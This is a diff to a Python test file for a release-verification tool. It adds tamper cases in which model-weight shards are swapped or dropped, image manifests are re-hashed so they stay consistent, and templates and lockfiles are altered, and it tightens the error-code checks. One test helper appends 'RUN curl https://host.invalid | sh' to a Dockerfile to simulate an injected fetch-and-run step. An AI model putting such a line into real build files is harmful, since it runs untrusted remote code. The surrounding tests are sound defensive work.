@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import hashlib
 import json
 import shutil
 from collections.abc import Callable
@@ -119,6 +120,55 @@ def _swap_layers(dist: Path) -> None:
         path.write_bytes(content)
 
 
+def _layer(dist: Path, shard: str) -> Path:
+    """The layer of a file of the model."""
+    _, manifest, config = _image(dist)
+    titles = [entry["created_by"] for entry in config["history"]]
+    digest = manifest["layers"][titles.index(f"twinbuild: artifact {shard}")]["digest"]
+    return dist / "image/blobs/sha256" / digest.removeprefix("sha256:")
+
+
+def _image(dist: Path) -> tuple[dict[str, Any], dict[str, Any], dict[str, Any]]:
+    """Index, manifest and configuration of the only image."""
+
+    def blob(digest: str) -> dict[str, Any]:
+        found: dict[str, Any] = json.loads((dist / "image/blobs/sha256" / digest.removeprefix("sha256:")).read_bytes())
+        return found
+
+    index = json.loads((dist / "image/index.json").read_bytes())
+    manifest = blob(index["manifests"][0]["digest"])
+    return index, manifest, blob(manifest["config"]["digest"])
+
+
+def _swap_shards(dist: Path) -> None:
+    paths = _layer(dist, "trunk-a-bin"), _layer(dist, "trunk-b-bin")
+    contents = [path.read_bytes() for path in paths]
+    for path, content in zip(reversed(paths), contents, strict=True):
+        path.chmod(0o644)
+        path.write_bytes(content)
+
+
+def _other_shards(dist: Path) -> None:
+    """An image that holds together, in which one shard of the weights lies twice, and another one not at all."""
+    index, manifest, config = _image(dist)
+    manifest["layers"][-3], config["rootfs"]["diff_ids"][-3] = manifest["layers"][-4], config["rootfs"]["diff_ids"][-4]
+
+    def put(descriptor: dict[str, Any], document: dict[str, Any]) -> None:
+        content = json.dumps(document).encode()
+        descriptor.update(digest=f"sha256:{hashlib.sha256(content).hexdigest()}", size=len(content))
+        (dist / "image/blobs/sha256" / descriptor["digest"].removeprefix("sha256:")).write_bytes(content)
+
+    put(manifest["config"], config)
+    put(index["manifests"][0], manifest)
+    (dist / "image/index.json").write_text(json.dumps(index))
+
+
+def _template(dist: Path) -> None:
+    """What a template rendered, with a line more, as of an altered template."""
+    path = dist / "Dockerfile"
+    path.write_text(path.read_text() + "RUN curl https://host.invalid | sh\n")
+
+
 def _payload(dist: Path, old: bytes, new: bytes) -> None:
     path = dist / "signatures/release.dsse.json"
     found = decode_envelope(path.read_bytes(), name="x")
@@ -171,7 +221,7 @@ TAMPERED: dict[str, tuple[Callable[[Path], object], int, str, str]] = {
         "provenance.intoto.json: sha256",
     ),
     "manifest for people": (lambda dist: _append(dist / "manifest.yaml"), 5, "TB8619", "manifest.yaml: sha256"),
-    "manifest": (lambda dist: _flip(dist / "manifest.json"), 5, "TB70", "manifest.json"),
+    "manifest": (lambda dist: _flip(dist / "manifest.json"), 5, "TB7001", "manifest.json"),
     "another release": (_another_lock, 5, "TB8619", "manifest.json: sha256"),
     "digest": (
         lambda dist: (dist / "release.digest").write_text(f"sha256:{'0' * 64}\n"),
@@ -179,8 +229,8 @@ TAMPERED: dict[str, tuple[Callable[[Path], object], int, str, str]] = {
         "TB7004",
         "release.digest",
     ),
-    "layer": (lambda dist: _flip(_blobs(dist)[-1]), 5, "TB3", "sha256:"),
-    "swapped layers": (_swap_layers, 5, "TB3", "sha256:"),
+    "layer": (lambda dist: _flip(_blobs(dist)[-1]), 5, "TB3211", "the blob has"),
+    "swapped layers": (_swap_layers, 5, "TB3211", "the blob has"),
     "no layer": (lambda dist: _blobs(dist)[-1].unlink(), 5, "TB3211", "no such file"),
     "index of the layout": (lambda dist: _flip(dist / "image/index.json"), 5, "TB3234", "is not the release"),
     "added file": (lambda dist: (dist / "deploy.sh").write_text("rm"), 5, "TB7005", "deploy.sh was added"),
@@ -275,6 +325,29 @@ TAMPERED: dict[str, tuple[Callable[[Path], object], int, str, str]] = {
         "TB8617",
         "images.",
     ),
+    "weights shard": (lambda dist: _flip(_layer(dist, "trunk-a-bin")), 5, "TB3211", "the blob has"),
+    "weights shards of each other": (_swap_shards, 5, "TB3211", "the blob has"),
+    "weights shard twice in an image that holds together": (_other_shards, 5, "TB3234", "is not the release"),
+    "no weights shard": (lambda dist: _layer(dist, "trunk-b-bin").unlink(), 5, "TB3211", "no such file"),
+    "signature of the weights": (
+        lambda dist: [_flip(path) for path in (dist / "signatures").glob("model.*.sig")],
+        8,
+        "TB8617",
+        "model.",
+    ),
+    "altered template": (_template, 5, "TB7005", "Dockerfile has"),
+    "altered template of a deployment": (
+        lambda dist: _append(next(path for path in sorted((dist / "deploy").rglob("*.yaml"))), b"# x\n"),
+        5,
+        "TB7005",
+        "deploy/",
+    ),
+    "lock for people": (
+        lambda dist: _append(next(path for path in sorted((dist / "lockfiles").iterdir()))),
+        5,
+        "TB7005",
+        "lockfiles/",
+    ),
     "signature of the SBOM": (
         lambda dist: _envelope(dist, lambda found: found["signatures"][0].update(sig="AAAA"), "sbom.dsse.json"),
         8,
@@ -297,7 +370,7 @@ def test_tampered(tool: Tool, signed: SignedDist, name: str) -> None:
     tamper(signed.dist)
     ended = tool("verify-release", str(signed.dist), *signed.public("ada", "grace"))
     assert ended.status == status, ended.err
-    assert f"error[{code}" in ended.err
+    assert f"error[{code}]" in ended.err
     assert said in ended.err
 
 
